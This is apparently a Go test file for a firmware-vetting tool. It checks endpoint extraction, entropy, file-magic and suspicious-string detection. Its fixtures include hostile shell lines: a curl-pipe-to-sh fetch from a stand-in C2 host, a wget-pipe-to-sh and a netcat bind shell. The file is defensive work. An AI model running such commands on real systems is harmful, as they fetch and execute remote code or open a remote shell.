package analyze

import (
	"bytes"
	"crypto/rand"
	"math"
	"os"
	"sort"
	"testing"

	"github.com/fwvet/fwvet/pipeline/fixture"
)

func endpointsOf(s string) []string {
	var out []string
	extractEndpoints([]byte(s), func(ep string, _ int) { out = append(out, ep) })
	sort.Strings(out)
	return out
}

func TestExtractEndpoints(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"connect to 203.0.113.9 now", []string{"203.0.113.9"}},
		{"server=198.51.100.77:8443", []string{"198.51.100.77"}},
		{"http://update.example.com/fw.bin?x=1", []string{"http://update.example.com/fw.bin?x=1"}},
		{"curl -s https://c2.evil.example.org/a.sh|sh", []string{"https://c2.evil.example.org/a.sh"}},
		{"tftp://10.0.0.5/boot", []string{"tftp://10.0.0.5/boot"}},
		{"ntp pool.ntp.org and time.google.com", []string{"pool.ntp.org", "time.google.com"}},
		{"Update.Example.COM", []string{"Update.Example.COM"}},
		{"fe80::1 and 2001:db8::42", []string{"2001:db8::42", "fe80::1"}},
		// not endpoints
		{"version 1.2.3.4-rc1", nil},
		{"libfoo.so.1.2.3.4", nil},
		{"v10.0.0.1 build", nil},
		{"1.2.3.4.5", nil},
		{"127.0.0.1 0.0.0.0 255.255.255.0 224.0.0.1", nil},
		{"010.1.1.1", nil},
		{"libc.so.6 init.sh main.py Foo.pm", nil},
		{"mail root@mail.example.com", nil},
		{"t.hk u.hk", nil},
		{"format %s://%s/x", nil},
		{"::", nil},
		{"std::vector::push_back", nil},
		{"12:34:56", nil},
		{"http://", nil},
	}
	for _, tt := range tests {
		got := endpointsOf(tt.in)
		if len(got) != len(tt.want) || (len(got) > 0 && !equal(got, tt.want)) {
			t.Errorf("extractEndpoints(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// profile runs the profiler over b, written in chunks of the given size.
func profile(b []byte, chunk int) *profilerResult {
	pr := newProfiler()
	for len(b) > 0 {
		n := min(chunk, len(b))
		pr.Write(b[:n])
		b = b[n:]
	}
	p := pr.finish()
	return &profilerResult{p.Endpoints, p.Notable, len(p.PEM), p.Entropy, p.Magic, p.Size}
}

type profilerResult struct {
	endpoints map[string]int64
	notable   map[string]int64
	pem       int
	entropy   float64
	magic     string
	size      int64
}

// TestProfilerChunking: what the profiler finds does not depend on where
// the writes cut the stream, offsets included.
func TestProfilerChunking(t *testing.T) {
	var b bytes.Buffer
	b.Write([]byte("\x00\x01\x02"))
	b.WriteString("#!/bin/sh\nwget http://update.example.com/x -O- | sh\n")
	b.Write(bytes.Repeat([]byte{0}, 5000))
	b.WriteString("nc -l -p 4444 -e /bin/sh")
	b.Write([]byte{0xff})
	b.WriteString("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
	b.Write([]byte{0})
	b.WriteString("beacon 203.0.113.9")
	want := profile(b.Bytes(), b.Len())
	if len(want.endpoints) != 2 || want.pem != 1 || len(want.notable) != 3 {
		t.Fatalf("whole-buffer profile: %+v", want)
	}
	if off := want.endpoints["203.0.113.9"]; off != int64(b.Len()-len("203.0.113.9")) {
		t.Errorf("offset of 203.0.113.9 = %d, want %d", off, b.Len()-len("203.0.113.9"))
	}
	for _, chunk := range []int{1, 3, 7, 64, 4096} {
		got := profile(b.Bytes(), chunk)
		if len(got.endpoints) != len(want.endpoints) || got.pem != want.pem || len(got.notable) != len(want.notable) || got.size != want.size {
			t.Errorf("chunk %d: %+v, want %+v", chunk, got, want)
		}
		for ep, off := range want.endpoints {
			if got.endpoints[ep] != off {
				t.Errorf("chunk %d: %s at %d, want %d", chunk, ep, got.endpoints[ep], off)
			}
		}
		for n, off := range want.notable {
			if got.notable[n] != off {
				t.Errorf("chunk %d: %q at %d, want %d", chunk, n, got.notable[n], off)
			}
		}
	}
}

func TestProfilerEntropyAndMagic(t *testing.T) {
	random := make([]byte, 1<<16)
	rand.Read(random)
	cases := []struct {
		name       string
		data       []byte
		min, max   float64
		magic      string
		notableOff bool
	}{
		{"zeros", make([]byte, 8192), 0, 0, "", false},
		{"random", random, 7.9, 8, "", false},
		{"text", bytes.Repeat([]byte("abcd"), 1000), 2, 2, "", false},
		{"gzip", append([]byte{0x1f, 0x8b, 8}, random[:4096]...), 7.5, 8, "gzip", false},
	}
	busybox, err := os.ReadFile(fixture.Path(t, "stage/1.0.0/bin/busybox"))
	if err != nil {
		t.Fatal(err)
	}
	cases = append(cases, struct {
		name       string
		data       []byte
		min, max   float64
		magic      string
		notableOff bool
	}{"dynamic ELF", busybox, 5, 7, "elf", true})
	for _, tc := range cases {
		pr := newProfiler()
		for b := tc.data; len(b) > 0; b = b[min(len(b), 256<<10):] {
			pr.Write(b[:min(len(b), 256<<10)])
		}
		p := pr.finish()
		if p.Entropy < tc.min-0.001 || p.Entropy > tc.max+0.001 || math.IsNaN(p.Entropy) {
			t.Errorf("%s: entropy %.3f, want %.1f..%.1f", tc.name, p.Entropy, tc.min, tc.max)
		}
		if p.Magic != tc.magic {
			t.Errorf("%s: magic %q, want %q", tc.name, p.Magic, tc.magic)
		}
		if pr.notable == tc.notableOff {
			t.Errorf("%s: notable strings searched = %v, want %v", tc.name, pr.notable, !tc.notableOff)
		}
	}
}
